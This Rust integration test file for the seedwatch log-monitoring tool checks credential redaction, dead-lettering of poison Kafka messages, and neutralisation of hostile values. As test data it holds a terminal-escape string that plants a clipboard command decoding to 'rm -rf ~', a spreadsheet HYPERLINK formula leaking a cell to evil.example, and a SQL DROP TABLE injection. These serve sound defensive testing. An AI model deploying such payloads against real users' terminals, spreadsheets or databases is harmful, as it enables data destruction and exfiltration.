//! Hostile and broken input through every path (`run`, `collect` → a real broker → `detect`).
//!
//! Credentials in every place a sender could put one: no byte that seedwatch writes (the
//! archive's files and what a query reads from them, the Kafka topics, its logs and output, its
//! metrics) holds one, and one key gets one key id on every path. The lines are written as
//! operators' systems write them, not as our generator does: camelCase and prefixed names,
//! nested objects, query strings escaped by a Go client, JSON inside strings, nginx headers,
//! and broken lines whose bad values are the secrets.
//!
//! Poison messages: whatever lands on a topic, the detector archives it (as a dead letter, at
//! its topic partition and offset) and goes on, also after a restart.

mod common;

use std::collections::BTreeSet;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::broker::{Broker, Running, Storage};
use common::http::{free_port, sum_of, try_get};
use common::{seedwatch, text};
use serde_json::Value;

/// The raw key three api lines carry, each in another form.
const KEY: &str = "SWKEYk3yV4lu3";

/// A secret unlike any other text in the run, so a hit names where it came from.
fn secret(n: u32) -> String {
    format!("SWLEAK{n:02}q7Zx")
}

/// What [`lines`] holds.
struct Input {
    text: String,
    /// Credentials: in no byte written, anywhere.
    credentials: Vec<String>,
    /// Bad values of broken lines: kept in the dead letter's copy of its line (nothing says
    /// they are secrets), but never quoted by a reason, a log or an output line.
    bad_values: Vec<String>,
    events: usize,
    dead: usize,
}

/// Contract lines with credentials in every field that can carry one, and broken lines
/// (dead letters) that carry them too.
fn lines() -> Input {
    let s = secret;
    let api = |time: &str, extra: &str| {
        format!(r#"{{"family":"api","time":"2026-11-02T{time}Z","system":"metrc","state":"CO","license":"402R-00001","integration":"dutchie","method":"GET","status":200,"src_ip":"10.0.0.1",{extra}}}"#)
    };
    let login = |time: &str, extra: &str| {
        format!(r#"{{"family":"login","time":"2026-11-02T{time}Z","system":"metrc","state":"CO","license":"402R-00001","user":"jdoe","src_ip":"10.0.0.2",{extra}}}"#)
    };
    let events = [
        api("10:00:00", &format!(r#""endpoint":"/packages/v2/active?licenseNumber=402R-00001&api_key={}","api_key":"{KEY}""#, s(1))),
        api("10:01:00", &format!(r#""endpoint":"/sales/v2/receipts?userApiKey={}","authorization":"Bearer {KEY}""#, s(2))),
        api("10:02:00", &format!(r#""endpoint":"/items/v2/active","x-api-key":"{KEY}","userApiKey":"{}","vendorApiKey":"{}""#, s(3), s(4))),
        login(
            "10:03:00",
            &format!(
                r#""outcome":"failure","reason":"bad password={}","user_agent":"curl Authorization: Bearer {}","newPassword":"{}","x_api_key":"{}","apiKey":"{}","api-key":"{}","access_token":"{}","vendor":{{"clientSecret":"{}","list":[{{"password":"{}"}},7]}},"request":"/x?licenseNumber=1\u0026api_key={}","payload":"{{\"password\":\"{}\"}}","api\u005fkey":"{}""#,
                s(5), s(6), s(7), s(8), s(9), s(10), s(11), s(12), s(13), s(14), s(15), s(29)
            ),
        ),
        format!(r#"{{"family":"sync","time":"2026-11-02T10:04:00Z","system":"metrc","state":"CO","license":"402R-00001","integration":"dutchie","outcome":"failure","error":"401 for token={}"}}"#, s(16)),
        format!(r#"{{"family":"audit","time":"2026-11-02T10:05:00Z","system":"metrc","state":"CO","license":"402R-00001","actor":"admin","action":"password_reset","target":"jdoe","password":"{}","Client-Secret":"{}"}}"#, s(17), s(18)),
    ];
    let dead = [
        format!("not json at all password={} and userApiKey={}", s(19), s(20)),
        // Valid JSON missing fields: the raw copy is redacted member by member.
        format!(r#"{{"family":"login","time":"2026-11-02T10:06:00Z","userApiKey":"{}","note":"go \u0026api_key={}"}}"#, s(21), s(22)),
        // The secrets are the bad values: the reason must not quote them.
        login("10:07:00", &format!(r#""outcome":"{}""#, s(23))),
        format!(r#"{{"family":"{}","time":"2026-11-02T10:08:00Z"}}"#, s(24)),
        login("10:09:00", r#""outcome":"success""#).replace("10.0.0.2", &s(25)),
        login("10:10:00", r#""outcome":"success""#).replace("2026-11-02T10:10:00Z", &s(26)),
        login("10:11:00", r#""outcome":"success""#).replace(r#""state":"CO""#, &format!(r#""state":"{}""#, s(27))),
    ];
    let mut all = String::new();
    for line in events.iter().chain(dead.iter()) {
        all.push_str(line);
        all.push('\n');
    }
    // 29: a member name written with an escape (`api\u005fkey`), which only a decoded walk sees.
    let mut credentials: Vec<String> = (1..=22).chain([29]).map(s).collect();
    credentials.push(KEY.to_string());
    let bad_values: Vec<String> = (23..=27).map(s).collect();
    for secret in credentials.iter().chain(&bad_values) {
        assert!(all.contains(secret.as_str()), "{secret} is not in the input: the test lost a case");
    }
    Input { text: all, credentials, bad_values, events: events.len(), dead: dead.len() }
}

/// Every secret found in `bytes`.
fn found_in(bytes: &[u8], secrets: &[String]) -> BTreeSet<String> {
    secrets.iter().filter(|s| bytes.windows(s.len()).any(|w| w == s.as_bytes())).cloned().collect()
}

/// Every secret in any file under `dir` (raw bytes: Parquet footers, Delta logs, the
/// manifest), as `secret in path`.
fn found_in_files(dir: &Path, secrets: &[String]) -> Vec<String> {
    let mut hits = Vec::new();
    for entry in common::files_under(dir) {
        let bytes = std::fs::read(&entry).unwrap_or_default();
        hits.extend(found_in(&bytes, secrets).into_iter().map(|s| format!("{s} in {}", entry.display())));
    }
    hits
}

/// Every secret in what a query reads back from each table (decompressed, every column).
fn found_in_tables(archive: &Path, secrets: &[String]) -> Vec<String> {
    let mut hits = Vec::new();
    for table in ["login", "api", "sync", "audit", "dead_letter", "findings"] {
        let out = seedwatch(&["query", "--archive", &archive.display().to_string(), "--format", "csv", &format!("SELECT * FROM {table}")]);
        assert!(out.status.success(), "{table}: {}", text(&out.stderr));
        hits.extend(found_in(&out.stdout, secrets).into_iter().map(|s| format!("{s} in table {table}")));
    }
    hits
}

fn count(archive: &Path, table: &str) -> u64 {
    common::query_json(archive, &format!("SELECT count(*) AS n FROM {table}"))[0]["n"].as_u64().unwrap_or(0)
}

/// The key ids of the api table, in time order.
fn key_ids(archive: &Path) -> Vec<String> {
    common::query_json(archive, "SELECT key_id FROM api ORDER BY time").iter().map(|r| r["key_id"].as_str().unwrap_or("").to_string()).collect()
}

#[test]
fn no_credential_reaches_the_archive_kafka_logs_or_metrics_on_any_path() {
    let dir = tempfile::tempdir().expect("tempdir");
    let input = lines();
    let (secrets, events, dead) = (&input.credentials, input.events, input.dead);
    // Outputs and logs hold neither credentials nor bad values.
    let unquotable: Vec<String> = input.credentials.iter().chain(&input.bad_values).cloned().collect();
    let file = dir.path().join("lines.ndjson");
    std::fs::write(&file, &input.text).expect("write");
    let key = dir.path().join("fp.key").display().to_string();
    let signing = dir.path().join("signing.pem").display().to_string();
    let mut hits = Vec::new();

    // 1. `run`: the embedded pipeline.
    let direct = dir.path().join("direct");
    let out = seedwatch(&["run", "--input", &file.display().to_string(), "--archive", &direct.display().to_string(), "--fingerprint-key", &key, "--signing-key", &signing, "--log-level", "debug"]);
    assert!(out.status.success(), "run: {}{}", text(&out.stdout), text(&out.stderr));
    hits.extend(found_in(&out.stdout, &unquotable).into_iter().map(|s| format!("{s} in run's output")));
    hits.extend(found_in(&out.stderr, &unquotable).into_iter().map(|s| format!("{s} in run's log")));
    let events_archived: u64 = ["login", "api", "sync", "audit"].iter().map(|t| count(&direct, t)).sum();
    assert_eq!((events_archived, count(&direct, "dead_letter")), (events as u64, dead as u64), "the lines were not all read");
    hits.extend(found_in_files(&direct, secrets));
    hits.extend(found_in_tables(&direct, secrets));
    // One key, one key id: given as `api_key`, as `Authorization: Bearer` and as `x-api-key`.
    let direct_ids = key_ids(&direct);
    assert_eq!(direct_ids.len(), 3, "{direct_ids:?}");
    assert!(direct_ids.iter().all(|id| !id.is_empty() && *id == direct_ids[0]), "one key, several key ids: {direct_ids:?}");
    // The dead letters still say why, by field, without the value.
    let reasons: Vec<String> = common::query_json(&direct, "SELECT reason FROM dead_letter ORDER BY line").iter().map(|r| r["reason"].as_str().unwrap_or("").to_string()).collect();
    for field in ["`outcome`", "unknown family", "`src_ip`", "`time`", "`state`"] {
        assert!(reasons.iter().any(|r| r.contains(field)), "no reason names {field}: {reasons:?}");
    }
    hits.extend(found_in(reasons.join("\n").as_bytes(), &unquotable).into_iter().map(|s| format!("{s} in a dead letter's reason")));

    // nginx access logs (collected with `--format nginx-json`): the Authorization header is the
    // same key, and the query string's key goes nowhere.
    let nginx = dir.path().join("nginx.ndjson");
    std::fs::write(
        &nginx,
        format!(
            "{}\n",
            serde_json::json!({"time_iso8601": "2026-11-02T10:12:00Z", "remote_addr": "10.0.0.9", "request_method": "GET",
                "request_uri": format!("/packages/v2/active?licenseNumber=402R-00001&api_key={}", secret(28)), "status": "200",
                "host": "api-co.metrc.com", "http_user_agent": "Dutchie/5.2", "http_authorization": format!("Bearer {KEY}")})
        ),
    )
    .expect("write");
    let mut secrets = secrets.clone();
    secrets.push(secret(28));
    let mut unquotable = unquotable;
    unquotable.push(secret(28));
    let secrets = &secrets;

    // 2. `collect` into a real broker, then `detect` from it.
    let tansu = Broker::start(dir.path(), Storage::Memory);
    let broker = tansu.address.clone();
    let create = seedwatch(&["topics", "create", "--brokers", &broker, "--partitions", "1"]);
    assert!(create.status.success(), "{}", text(&create.stderr));
    let out = seedwatch(&["collect", "file", "--input", &file.display().to_string(), "--brokers", &broker, "--fingerprint-key", &key, "--log-level", "debug"]);
    assert!(out.status.success(), "collect: {}", text(&out.stderr));
    hits.extend(found_in(&[out.stdout, out.stderr].concat(), &unquotable).into_iter().map(|s| format!("{s} in collect's output")));
    let out = seedwatch(&["collect", "file", "--format", "nginx-json", "--input", &nginx.display().to_string(), "--brokers", &broker, "--fingerprint-key", &key, "--log-level", "debug"]);
    assert!(out.status.success(), "collect nginx: {}", text(&out.stderr));
    hits.extend(found_in(&[out.stdout, out.stderr].concat(), &unquotable).into_iter().map(|s| format!("{s} in collect's output (nginx)")));

    let python = std::env::var("SEEDWATCH_PYTHON").unwrap_or_else(|_| "python3".into());
    let consumed = dir.path().join("consumed.ndjson");
    let mut args = vec![common::repo().join("tests/kafka/consume.py").display().to_string(), broker.clone(), "seedwatch".into(), consumed.display().to_string()];
    args.extend(secrets.iter().cloned());
    let out = Command::new(&python).args(&args).output().unwrap_or_else(|e| panic!("{python}: {e}"));
    assert!(out.status.success(), "kafka-python (./scripts/test.sh installs it): {}", text(&out.stderr));
    let summary: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", text(&out.stdout)));
    assert_eq!(summary["counts"]["seedwatch.dead_letter"].as_u64(), Some(dead as u64), "{summary}");
    for s in summary["raw_keys_found"].as_array().into_iter().flatten() {
        hits.push(format!("{} in a Kafka message", s.as_str().unwrap_or("?")));
    }
    let kafka_reasons = summary["reasons"].as_object().map(|r| r.keys().cloned().collect::<Vec<_>>().join("\n")).unwrap_or_default();
    hits.extend(found_in(kafka_reasons.as_bytes(), &unquotable).into_iter().map(|s| format!("{s} in a dead letter's reason on Kafka")));

    let kafka_archive = dir.path().join("from-kafka");
    let log_path = dir.path().join("detect.log");
    let log = std::fs::File::create(&log_path).expect("log");
    let metrics = format!("127.0.0.1:{}", free_port());
    let mut detector = Running(
        Command::new(env!("CARGO_BIN_EXE_seedwatch"))
            .args(["detect", "--brokers", &broker, "--archive", &kafka_archive.display().to_string(), "--fingerprint-key", &key, "--signing-key", &signing])
            .args(["--commit-interval", "1s", "--metrics-addr", &metrics, "--log-level", "debug"])
            .current_dir(common::repo())
            .stdout(Stdio::from(log.try_clone().expect("log")))
            .stderr(Stdio::from(log))
            .spawn()
            .expect("starting seedwatch detect"),
    );
    let deadline = Instant::now() + Duration::from_secs(90);
    loop {
        if let Ok(Some(status)) = detector.0.try_wait() {
            panic!("detect exited with {status}: {}", std::fs::read_to_string(&log_path).unwrap_or_default());
        }
        let archived = kafka_archive.is_dir() && count(&kafka_archive, "api") == 4 && count(&kafka_archive, "dead_letter") == dead as u64;
        if archived {
            break;
        }
        assert!(Instant::now() < deadline, "detect did not archive the lines: {}", std::fs::read_to_string(&log_path).unwrap_or_default());
        std::thread::sleep(Duration::from_millis(500));
    }
    let (status, scrape) = try_get(&metrics, "/metrics").expect("detect's /metrics answers");
    assert_eq!(status, 200);
    assert!(scrape.contains("seedwatch_"), "{scrape}");
    // The limits the sync-lag alert compares against are published in Kafka mode too (they
    // were only by `run`, so the alert could never fire for a Kafka deployment).
    assert!(scrape.contains("seedwatch_absence_limit_seconds{rule=\"sync.lag\",state=\"CA\"}"), "no sync.lag limits from detect: {scrape}");
    hits.extend(found_in(scrape.as_bytes(), &unquotable).into_iter().map(|s| format!("{s} in detect's metrics")));
    let _ = Command::new("kill").args(["-TERM", &detector.0.id().to_string()]).status();
    let _ = detector.0.wait();
    hits.extend(found_in(&std::fs::read(&log_path).unwrap_or_default(), &unquotable).into_iter().map(|s| format!("{s} in detect's log")));
    hits.extend(found_in_files(&kafka_archive, secrets));
    hits.extend(found_in_tables(&kafka_archive, secrets));
    // The collector's text, the decoder's fields and the proxy's header give the key one id.
    assert_eq!(key_ids(&kafka_archive), vec![direct_ids[0].clone(); 4], "the key's id differs after Kafka or through nginx");

    assert!(hits.is_empty(), "raw credentials written:\n{}", hits.join("\n"));
}

/// `seedwatch detect` against `broker` into `archive`, logging to `log`.
fn detector(broker: &str, archive: &Path, dir: &Path, metrics: &str, log: &Path) -> Running {
    let log = std::fs::OpenOptions::new().create(true).append(true).open(log).expect("log");
    common::keys_init(&dir.join("fp.key"));
    Running(
        Command::new(env!("CARGO_BIN_EXE_seedwatch"))
            .args(["detect", "--brokers", broker, "--archive", &archive.display().to_string()])
            .args(["--fingerprint-key", &dir.join("fp.key").display().to_string(), "--signing-key", &dir.join("signing.pem").display().to_string()])
            .args(["--commit-interval", "1s", "--metrics-addr", metrics])
            .current_dir(common::repo())
            .stdout(Stdio::from(log.try_clone().expect("log")))
            .stderr(Stdio::from(log))
            .spawn()
            .expect("starting seedwatch detect"),
    )
}

#[test]
fn a_poison_message_is_dead_lettered_where_it_was_and_the_detector_goes_on() {
    let dir = tempfile::tempdir().expect("tempdir");
    let tansu = Broker::start(dir.path(), Storage::Memory);
    let broker = tansu.address.clone();
    let create = seedwatch(&["topics", "create", "--brokers", &broker, "--partitions", "1"]);
    assert!(create.status.success(), "{}", text(&create.stderr));

    // Three messages on the dead-letter topic that no collector wrote: not JSON, not an object,
    // an object that is not a dead letter. They come first, at offsets 0, 1 and 2.
    let poison = dir.path().join("poison.txt");
    std::fs::write(&poison, "this is not json\n[1,2,3]\n{\"hello\":\"world\"}\n").expect("write");
    let python = std::env::var("SEEDWATCH_PYTHON").unwrap_or_else(|_| "python3".into());
    let out = Command::new(&python).args([common::repo().join("tests/kafka/produce.py").display().to_string(), broker.clone(), "seedwatch".into(), poison.display().to_string(), "dead_letter".into()]).output().expect("python");
    assert!(out.status.success() && text(&out.stdout).trim() == "3", "kafka-python: {}{}", text(&out.stdout), text(&out.stderr));

    // Then what a collector sends: events and one real dead letter.
    let input = lines();
    let file = dir.path().join("lines.ndjson");
    std::fs::write(&file, &input.text).expect("write");
    common::keys_init(&dir.path().join("fp.key"));
    let out = seedwatch(&["collect", "file", "--input", &file.display().to_string(), "--brokers", &broker, "--fingerprint-key", &dir.path().join("fp.key").display().to_string()]);
    assert!(out.status.success(), "collect: {}", text(&out.stderr));

    let archive = dir.path().join("archive");
    let log = dir.path().join("detect.log");
    let metrics = format!("127.0.0.1:{}", free_port());
    let mut first = detector(&broker, &archive, dir.path(), &metrics, &log);
    let expected_dead = input.dead as u64 + 3;
    let deadline = Instant::now() + Duration::from_secs(90);
    loop {
        if let Ok(Some(status)) = first.0.try_wait() {
            panic!("detect stopped on a poison message ({status}): {}", std::fs::read_to_string(&log).unwrap_or_default());
        }
        if archive.is_dir() && count(&archive, "dead_letter") == expected_dead && count(&archive, "api") == 3 {
            break;
        }
        assert!(Instant::now() < deadline, "detect did not archive everything: {}", std::fs::read_to_string(&log).unwrap_or_default());
        std::thread::sleep(Duration::from_millis(500));
    }
    let poisoned = common::query_json(&archive, "SELECT source, line, reason_code FROM dead_letter WHERE source = 'seedwatch.dead_letter/0' AND line < 3 ORDER BY line");
    let found: Vec<(String, i64, String)> = poisoned.iter().map(|r| (r["source"].as_str().unwrap_or("").into(), r["line"].as_i64().unwrap_or(-1), r["reason_code"].as_str().unwrap_or("").into())).collect();
    let at = |line: i64, code: &str| ("seedwatch.dead_letter/0".to_string(), line, code.to_string());
    assert_eq!(found, vec![at(0, "not_json"), at(1, "not_object"), at(2, "wrong_type")], "the poison messages are not archived where they were");
    let (_, scrape) = try_get(&metrics, "/metrics").expect("detect's /metrics answers");
    assert!(sum_of(&scrape, "seedwatch_dead_letters_total", &["not_json"]) >= 1.0, "the poison message was not counted: {scrape}");

    // A restart does not stop on them again, and archives nothing twice.
    let _ = Command::new("kill").args(["-TERM", &first.0.id().to_string()]).status();
    let status = first.0.wait().expect("wait");
    assert!(status.success(), "detect did not stop cleanly: {}", std::fs::read_to_string(&log).unwrap_or_default());
    let mut second = detector(&broker, &archive, dir.path(), &metrics, &log);
    std::thread::sleep(Duration::from_secs(8));
    assert!(matches!(second.0.try_wait(), Ok(None)), "the restarted detector stopped: {}", std::fs::read_to_string(&log).unwrap_or_default());
    assert_eq!(count(&archive, "dead_letter"), expected_dead);
    let _ = Command::new("kill").args(["-TERM", &second.0.id().to_string()]).status();
    let _ = second.0.wait();
}

/// Whatever a line holds is data: a user name made of terminal escapes, a spreadsheet formula
/// or SQL is archived as written (it is evidence), found by the detector like any other name,
/// and shown neutralised by every command that prints it (`run`'s findings, `query` as a table,
/// CSV and JSON, the shell, `report` on screen and to a CSV file). Numbers a log could not mean
/// (fractions of a count, 1e400, negative counts) are dead letters that say which field and why.
#[test]
fn hostile_values_stay_data_are_shown_neutralised_and_impossible_numbers_are_dead_lettered() {
    let dir = tempfile::tempdir().expect("tempdir");
    // Clears the screen, retitles the terminal and sets the clipboard (OSC 52), then reverses the text.
    let ansi = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}]52;c;cm0gLXJmIH4=\u{7}mallory\u{202e}nimda";
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"help\")";
    let sql = "x'); DROP TABLE login; --";
    let login = |user: &str, minute: u32| {
        serde_json::json!({"family": "login", "time": format!("2026-11-02T10:{minute:02}:00Z"), "system": "metrc", "state": "CO",
            "license": "402R-00001", "location": user, "user": user, "outcome": "failure", "src_ip": "10.0.0.2"})
        .to_string()
    };
    let api = |records: &str| {
        format!(r#"{{"family":"api","time":"2026-11-02T11:00:00Z","system":"metrc","state":"CO","license":"402R-00001","key_id":"k1","integration":"dutchie","method":"GET","endpoint":"/packages/v2/active","status":200,"src_ip":"10.0.0.1","records":{records}}}"#)
    };
    let mut input: Vec<String> = [ansi, formula, sql].iter().flat_map(|user| (0..4).map(move |m| login(user, m))).collect();
    let impossible = [("1.5", "must be a whole number"), ("1e400", "beyond the 64-bit integer range"), ("-3", "is -3, outside 0.."), ("NaN", "not JSON")];
    input.extend(impossible.iter().map(|(records, _)| api(records)));
    input.push(api("48000.0"));
    let file = dir.path().join("hostile.ndjson");
    std::fs::write(&file, input.join("\n") + "\n").expect("write");
    let archive = dir.path().join("archive");
    let a = archive.display().to_string();
    let key = dir.path().join("fp.key").display().to_string();
    let signing = dir.path().join("signing.pem").display().to_string();

    let mut shown: Vec<(String, Vec<u8>)> = Vec::new();
    let out = seedwatch(&["run", "--input", &file.display().to_string(), "--archive", &a, "--fingerprint-key", &key, "--signing-key", &signing]);
    assert!(out.status.success(), "run: {}", text(&out.stderr));
    shown.push(("run".into(), [out.stdout, out.stderr].concat()));

    // Archived byte for byte, and found: one failed-login burst per hostile name.
    let users: BTreeSet<String> = common::query_json(&archive, "SELECT DISTINCT \"user\" FROM login").iter().filter_map(|r| r["user"].as_str().map(str::to_string)).collect();
    assert_eq!(users, [ansi, formula, sql].iter().map(|u| u.to_string()).collect(), "the names were not archived as written");
    let subjects: BTreeSet<String> = common::query_json(&archive, "SELECT subject FROM findings WHERE rule = 'login.failed_burst'").iter().filter_map(|r| r["subject"].as_str().map(str::to_string)).collect();
    assert_eq!(subjects.len(), 3, "{subjects:?}");
    assert!([ansi, formula, sql].iter().all(|u| subjects.iter().any(|s| s.contains(u))), "{subjects:?}");
    // The SQL in a name was never run: the table it names is whole.
    assert_eq!(count(&archive, "login"), 12);

    // Impossible numbers: dead letters naming the field and the problem; a whole float is a count.
    let reasons: Vec<String> = common::query_json(&archive, "SELECT reason FROM dead_letter").iter().map(|r| r["reason"].as_str().unwrap_or("").to_string()).collect();
    assert_eq!(reasons.len(), impossible.len(), "{reasons:?}");
    for (records, why) in impossible {
        assert!(reasons.iter().any(|r| r.contains(why)), "{records}: no reason says `{why}`: {reasons:?}");
    }
    assert_eq!(common::query_json(&archive, "SELECT records FROM api")[0]["records"].as_i64(), Some(48000));

    // Every way of showing the names.
    let everything = "SELECT l.\"user\", l.location, f.subject, f.evidence FROM login l JOIN findings f ON f.rule = 'login.failed_burst' AND f.subject LIKE '%' || l.\"user\" || '%'";
    for format in ["table", "csv", "json"] {
        let out = seedwatch(&["query", "--archive", &a, "--format", format, everything]);
        assert!(out.status.success(), "query {format}: {}", text(&out.stderr));
        assert!(text(&out.stdout).contains("mallory"), "query {format} lost the row: {}", text(&out.stdout));
        shown.push((format!("query --format {format}"), out.stdout));
    }
    let csv = seedwatch(&["query", "--archive", &a, "--format", "csv", "SELECT DISTINCT \"user\" FROM login ORDER BY \"user\""]);
    assert!(text(&csv.stdout).lines().any(|l| l.starts_with("\"'=HYPERLINK(")), "a formula is not defused: {}", text(&csv.stdout));
    let mut shell = Command::new(env!("CARGO_BIN_EXE_seedwatch"))
        .args(["query", "--archive", &a])
        .current_dir(common::repo())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("shell");
    {
        use std::io::Write;
        let mut stdin = shell.stdin.take().expect("stdin");
        writeln!(stdin, "SELECT \"user\", location FROM login;").expect("script");
    }
    let out = shell.wait_with_output().expect("shell");
    assert!(text(&out.stdout).contains("mallory"), "shell: {}{}", text(&out.stdout), text(&out.stderr));
    shown.push(("the shell".into(), [out.stdout, out.stderr].concat()));
    let out = seedwatch(&["report", "failed-logins", "--archive", &a, "--from", "2026-11-01", "--to", "2026-11-03"]);
    assert!(out.status.success(), "report: {}", text(&out.stderr));
    shown.push(("report".into(), [out.stdout, out.stderr].concat()));
    let report_csv = dir.path().join("failed.csv");
    let out = seedwatch(&["report", "failed-logins", "--archive", &a, "--from", "2026-11-01", "--to", "2026-11-03", "--out", &report_csv.display().to_string()]);
    assert!(out.status.success(), "report --out: {}", text(&out.stderr));
    let written = std::fs::read(&report_csv).expect("report csv");
    assert_eq!(text(&written).lines().count(), 4, "a header and three users: {}", text(&written));
    assert!(text(&written).contains("\"'=HYPERLINK("), "a formula is not defused in the report: {}", text(&written));
    shown.push(("report --out".into(), written));

    let raw: Vec<String> = shown
        .iter()
        .filter(|(_, bytes)| text(bytes).chars().any(|c| c.is_control() && c != '\n' || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')))
        .map(|(what, bytes)| format!("{what}: {:?}", text(bytes)))
        .collect();
    assert!(raw.is_empty(), "raw control characters shown:\n{}", raw.join("\n"));
}
